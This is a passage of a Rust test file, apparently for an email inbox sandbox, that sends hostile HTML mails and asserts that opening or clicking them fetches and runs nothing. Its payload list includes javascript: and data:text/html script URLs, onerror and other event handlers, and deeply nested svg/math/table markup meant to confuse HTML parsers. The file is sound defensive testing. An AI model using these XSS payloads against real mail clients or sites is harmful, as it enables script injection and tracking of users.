        all(ATTRIBUTES, "", "EVIL/everywhere", "x-not-clicked"),
        all(ATTRIBUTES, "", "javascript:SCRIPT", "x"),
        all(
            ATTRIBUTES,
            "",
            "data:text/html,<script>SCRIPT</script>",
            "x",
        ),
        all(ATTRIBUTES, "", "url(EVIL/everywhere)", "x"),
        all(EVENTS, "on", "SCRIPT", "x"),
        // Deeper than the depth at which a parser flattens the tree.
        format!(
            "{}<table><svg><title><style><img src=EVIL/deep onerror=\"SCRIPT\">",
            "<div>".repeat(600)
        ),
        format!(
            "{}<img src=EVIL/deep onerror=\"SCRIPT\">",
            "<svg><desc><math><mtext>".repeat(200)
        ),
        "<div><b><table>".repeat(20_000) + "<script>SCRIPT</script><img src=EVIL/large>",
    ]
}

/// Returns a browser in which every page records messages from frames.
async fn listening() -> Browser {
    let browser = Browser::open().await;
    let listen = "window.heard = []; addEventListener('message', event => heard.push(event.data))";
    let source = json!({ "source": listen });
    browser
        .command("Page.addScriptToEvaluateOnNewDocument", source)
        .await;
    browser
}

#[test]
fn hostile_html_requests_and_runs_nothing() {
    run(async {
        let (sandbox, client) = sandbox().await;
        let browser = listening().await;
        for (number, piece) in PIECES.iter().enumerate() {
            let html = fill(piece, number);
            // In the texts of the page itself too.
            let subject: String = html.chars().filter(|one| !one.is_control()).collect();
            let sender = format!("\"{}\" <a@example.com>", name(&html));
            let mail = Email::new(sender, subject)
                .to("b@example.net")
                .html(html.as_str())
                .text(html.as_str());
            look_at(&browser, &client, &sandbox, mail, piece).await;
        }
        assert!(!sandbox.mails().is_empty(), "a mail has reset the sandbox");
        assert_eq!(browser.close_and_count_lookups().await, 0);
    });
}

#[test]
fn hostile_attribute_requests_and_runs_nothing() {
    run(async {
        let (sandbox, client) = sandbox().await;
        let browser = listening().await;
        for (number, html) in everywhere().iter().enumerate() {
            let mail = Email::new("a@example.com", "x".repeat(900))
                .to("b@example.net")
                .html(fill(html, 900 + number));
            let what: String = html.chars().take(80).collect();
            look_at(&browser, &client, &sandbox, mail, &what).await;
        }
        assert_eq!(browser.close_and_count_lookups().await, 0);
    });
}

#[test]
fn remote_content_is_fetched_on_request_and_scripts_stay_off() {
    run(async {
        let (sandbox, client) = sandbox().await;
        let browser = listening().await;
        let html =
            "<img src=http://allowed.example/pixel><script>parent.postMessage('ran','*')</script>";
        let mail = Email::new("a@example.com", "Newsletter")
            .to("b@example.net")
            .html(html);
        let sent = client.send(mail).await.unwrap();
        let id = sent.email_id.as_deref().unwrap();
        browser
            .goto(&format!("{}_inbox/mails/{id}", sandbox.inbox_url()))
            .await;
        nothing_happened(&browser, "before leave").await;
        let link = browser
            .window
            .find(Locator::LinkText("Load remote content"))
            .await
            .unwrap();
        link.click().await.unwrap();
        let pixel = eventually(|| {
            let seen = browser.outside.seen();
            (!seen.is_empty()).then_some(seen)
        });
        let seen = pixel.await.expect("the picture is fetched");
        assert_eq!(seen.len(), 1, "{seen:?}");
        assert!(seen[0].starts_with("GET /pixel HTTP/1.1\r\n"), "{seen:?}");
        assert_eq!(browser.run("return heard").await, json!([]));
        assert!(browser.close_and_count_lookups().await > 0);
    });
}

/// Returns a name that JSON and a header can contain.
fn name(html: &str) -> String {
    html.chars()
        .filter(|one| !one.is_control() && !"\"\\<>,;@".contains(*one))
        .take(60)
        .collect()
}

async fn look_at(browser: &Browser, client: &Client, sandbox: &Sandbox, mail: Email, what: &str) {
    let sent = client
        .send(mail)
        .await
        .unwrap_or_else(|error| panic!("{what}: {error}"));
    look_at_id(browser, sandbox, sent.email_id.as_deref().unwrap(), what).await;
}

async fn look_at_id(browser: &Browser, sandbox: &Sandbox, id: &str, what: &str) {
    let page = format!("{}_inbox/mails/{id}", sandbox.inbox_url());
    // `goto` waits for the page and its frame.
    browser.goto(&page).await;
    nothing_happened(browser, what).await;
    click_on_everything(browser, sandbox, what).await;
    nothing_happened(browser, what).await;
}

/// Clicks on everything clickable in the frame of the open mail, except external links with the
/// text `x-not-clicked`. Asserts that nothing is requested or run, and that the page stays.
async fn click_on_everything(browser: &Browser, sandbox: &Sandbox, what: &str) {
    let page = browser.window.current_url().await.unwrap();
    let before = browser.window.windows().await.unwrap().len();
    let frame = browser.window.find(Locator::Css("iframe")).await.unwrap();
    frame.enter_frame().await.unwrap();
    let elements = "a, button, area, input[type=image], input[type=submit], summary";
    for element in browser
        .window
        .find_all(Locator::Css(elements))
        .await
        .unwrap()
    {
        let text = element.text().await.unwrap_or_default();
        if !text.contains("x-not-clicked") {
            let _ = element.click().await;
        }
    }
    browser.window.enter_parent_frame().await.unwrap();
    nothing_asked_or_run(browser, what).await;
    // Opened windows must be empty; they are closed again.
    let windows = browser.window.windows().await.unwrap();
    if windows.len() > before {
        let own = browser.window.window().await.unwrap();
        for window in windows.into_iter().filter(|window| *window != own) {
            browser.window.switch_to_window(window).await.unwrap();
            let address = browser.run("return location.href").await;
            let address = address.as_str().unwrap_or_default();
            let harmless =
                address.starts_with(&sandbox.inbox_url()) || address.starts_with("about:blank");
            assert!(harmless, "{what} opened {address}");
            nothing_asked_or_run(browser, what).await;
            browser.window.close_window().await.unwrap();
        }
        browser.window.switch_to_window(own).await.unwrap();
    }
    let address = browser.window.current_url().await.unwrap();
    assert_eq!(address, page, "{what} left the page");
}

/// Asserts that nothing was connected to, requested or run.
async fn nothing_happened(browser: &Browser, what: &str) {
    let connections = browser.outside.connections();
    let seen = browser.outside.seen();
    assert_eq!(connections, 0, "{what} requested {seen:?}");
    nothing_asked_or_run(browser, what).await;
}

/// Asserts that nothing was requested or run. Connections are allowed: Chromium connects when the
/// mouse is pressed on an external link, even if it may not follow it.
async fn nothing_asked_or_run(browser: &Browser, what: &str) {
    let mut seen = browser.outside.seen();
    seen.retain(|head| !head.is_empty());
    assert!(seen.is_empty(), "{what} requested {seen:?}");
    let heard = browser.run("return window.heard ?? []").await;
    assert_eq!(heard, json!([]), "{what} ran");
}
